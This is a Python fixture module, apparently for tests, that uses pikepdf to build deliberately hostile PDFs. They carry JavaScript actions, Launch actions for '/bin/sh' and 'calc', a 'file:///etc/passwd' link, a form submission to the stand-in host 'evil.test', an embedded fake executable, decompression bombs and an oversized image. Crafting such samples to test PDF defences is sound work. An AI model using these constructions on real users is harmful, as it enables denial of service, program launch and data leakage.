"""PDFs that try something, made here because no honest collection holds them."""

from __future__ import annotations

import io
import zlib
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name, Stream, String


def plain(text: str = "Plain page", pages: int = 1) -> pikepdf.Pdf:
    """An open PDF with one line of text on each page."""
    pdf = pikepdf.new()
    font = pdf.make_indirect(
        Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica, Encoding=Name.WinAnsiEncoding)
    )
    for number in range(1, pages + 1):
        page = pdf.add_blank_page(page_size=(595, 842))
        page.Resources = Dictionary(Font=Dictionary(F1=font))
        page.Contents = pdf.make_stream(f"BT /F1 14 Tf 72 700 Td ({text} {number}) Tj ET".encode())
    return pdf


def saved(pdf: pikepdf.Pdf, **options: Any) -> bytes:
    target = io.BytesIO()
    pdf.save(target, **options)
    return target.getvalue()


def script(code: str = "app.alert('hello')") -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS=String(code))


def everything() -> bytes:
    """One file with every active thing we know of, and one honest link of each kind."""
    pdf = plain("Loaded page", pages=2)
    root, page = pdf.Root, pdf.pages[0].obj
    attached = pdf.make_stream(b"MZ not really")
    filespec = pdf.make_indirect(
        Dictionary(Type=Name.Filespec, F=String("run.exe"), EF=Dictionary(F=attached))
    )
    root.OpenAction = script()
    root.AA = Dictionary(WC=script("closing"), WS=script("saving"))
    root.Names = Dictionary(
        JavaScript=Dictionary(Names=Array([String("start"), script("doc level")])),
        EmbeddedFiles=Dictionary(Names=Array([String("run.exe"), filespec])),
        Dests=Dictionary(Names=Array([String("here"), Array([page, Name.Fit])])),
    )
    root.AF = Array([filespec])
    root.URI = Dictionary(Base=String("file:///"))
    root.Outlines = pdf.make_indirect(Dictionary(Type=Name.Outlines))
    bookmark = pdf.make_indirect(
        Dictionary(Title=String("Run"), Parent=root.Outlines, A=Dictionary(S=Name.Launch, F=String("calc")))
    )
    root.Outlines.First = root.Outlines.Last = bookmark
    page.AA = Dictionary(O=script("page open"))
    page.PieceInfo = Dictionary(X=Dictionary(Private=script("private")))
    page.Resources.XObject = Dictionary(
        Far=_stream(pdf, Subtype=Name.Form, BBox=Array([0, 0, 9, 9]), F=String("other.pdf")),
        Alt=_stream(
            pdf,
            Subtype=Name.Image,
            Width=1,
            Height=1,
            BitsPerComponent=8,
            ColorSpace=Name.DeviceGray,
            Alternates=Array([Dictionary(DefaultForPrinting=True)]),
        ),
    )
    page.Annots = Array([pdf.make_indirect(note) for note in _annotations(pdf, page, filespec)])
    root.AcroForm = Dictionary(
        Fields=Array([note for note in page.Annots if note.get("/FT")]),
        DA=String("/F1 12 Tf 0 g"),
        DR=Dictionary(Font=page.Resources.Font),
        NeedAppearances=True,
        XFA=Array([String("template"), pdf.make_stream(b"<xdp/>")]),
        CO=Array([]),
    )
    return saved(pdf)


def _stream(pdf: pikepdf.Pdf, **keys: Any) -> Stream:
    return Stream(pdf, b"\x80", Dictionary(Type=Name.XObject, **keys))


def _annotations(pdf: pikepdf.Pdf, page: Any, filespec: Any) -> list[Dictionary]:
    def note(kind: str, top: int, **keys: Any) -> Dictionary:
        box = Array([72, top, 300, top + 20])
        return Dictionary(Type=Name.Annot, Subtype=Name(f"/{kind}"), Rect=box, P=page, **keys)

    def link(top: int, action: Dictionary) -> Dictionary:
        return note("Link", top, A=action)

    uri = Name.URI
    return [
        link(600, Dictionary(S=uri, URI=String("https://example.test/terms"), Next=script("after"))),
        link(580, Dictionary(S=Name.GoTo, D=Array([page, Name.Fit]))),
        link(560, Dictionary(S=uri, URI=String("javascript:alert(1)"))),
        link(540, Dictionary(S=uri, URI=String("file:///etc/passwd"))),
        link(520, Dictionary(S=Name.Launch, F=String("/bin/sh"))),
        link(500, Dictionary(S=Name.GoToR, F=String("other.pdf"), D=Array([0, Name.Fit]))),
        link(480, Dictionary(S=Name.SubmitForm, F=String("https://evil.test"))),
        link(460, script("link")),
        note("FileAttachment", 440, FS=filespec, Contents=String("open me")),
        note("RichMedia", 420, RichMediaContent=Dictionary(Assets=Dictionary())),
        note("Screen", 400, A=Dictionary(S=Name.Rendition, JS=String("play"))),
        note("Widget", 380, FT=Name.Tx, T=String("who"), V=String("Filled in by hand"),
             DA=String("/F1 12 Tf 0 g"), AA=Dictionary(K=script("key"))),
        note("Widget", 360, FT=Name.Btn, Ff=65536, T=String("send"), A=script("button")),
    ]  # fmt: skip


def bomb(megabytes: int = 600) -> bytes:
    """A page whose content unpacks to that much."""
    packer = zlib.compressobj(9)
    packed = b"".join(packer.compress(b" " * 1024 * 1024) for _ in range(megabytes)) + packer.flush()
    pdf = plain()
    pdf.pages[0].obj.Contents = Stream(pdf, packed, Dictionary(Filter=Name.FlateDecode))
    return saved(pdf, compress_streams=False, stream_decode_level=pikepdf.StreamDecodeLevel.none)


def double_bomb() -> bytes:
    """The same packed twice, so that the first unpacking looks harmless."""
    inner = zlib.compress(b"\0" * 400 * 1024 * 1024, 9)
    pdf = plain()
    pdf.pages[0].obj.Contents = Stream(
        pdf, zlib.compress(inner, 9), Dictionary(Filter=Array([Name.FlateDecode, Name.FlateDecode]))
    )
    return saved(pdf, compress_streams=False, stream_decode_level=pikepdf.StreamDecodeLevel.none)


def huge_picture() -> bytes:
    """A picture of 60,000 by 60,000 dots in a small file."""
    pdf = plain()
    row = zlib.compress(b"\0" * 7500)
    picture = Stream(pdf, row, Dictionary(
        Type=Name.XObject, Subtype=Name.Image, Width=60_000, Height=60_000, BitsPerComponent=8,
        ColorSpace=Name.DeviceGray, Filter=Name.FlateDecode,
    ))  # fmt: skip
    pdf.pages[0].obj.Resources.XObject = Dictionary(Im=picture)
    return saved(pdf)


def layered() -> bytes:
    """One visible and two hidden layers: as marked content, and as a drawing."""
    pdf = plain("Always there")
    page = pdf.pages[0].obj
    groups = [pdf.make_indirect(Dictionary(Type=Name.OCG, Name=String(name))) for name in ("Shown", "Hidden")]
    page.Resources.Properties = Dictionary(
        On=groups[0], Off=groups[1], Member=Dictionary(Type=Name.OCMD, OCGs=groups[1], P=Name.AllOff)
    )
    form = pdf.make_stream(b"BT /F1 14 Tf 72 500 Td (Hidden drawing) Tj ET")
    form.update(Dictionary(Type=Name.XObject, Subtype=Name.Form, BBox=Array([0, 0, 595, 842]), OC=groups[1]))
    form.Resources = Dictionary(Font=page.Resources.Font)
    page.Resources.XObject = Dictionary(Fm=form)
    page.Contents = pdf.make_stream(
        b"BT /F1 14 Tf 72 700 Td (Always there) Tj ET\n"
        b"/OC /On BDC BT /F1 14 Tf 72 660 Td (Shown layer) Tj ET EMC\n"
        b"/OC /Off BDC BT /F1 14 Tf 72 620 Td (Hidden layer) Tj ET 72 610 90 2 re f EMC\n"
        b"/OC /Member BDC BT /F1 14 Tf 72 580 Td (Shown when hidden) Tj ET EMC\n/Fm Do"
    )
    pdf.Root.OCProperties = Dictionary(OCGs=Array(groups), D=Dictionary(OFF=Array([groups[1]])))
    return saved(pdf)


def dynamic_form() -> bytes:
    pdf = plain("Please wait...")
    pdf.Root.NeedsRendering = True
    pdf.Root.AcroForm = Dictionary(Fields=Array([]), XFA=pdf.make_stream(b"<xdp/>"))
    return saved(pdf)


def portfolio() -> bytes:
    pdf = plain("Cover")
    pdf.Root.Collection = Dictionary(View=Name.D)
    return saved(pdf)
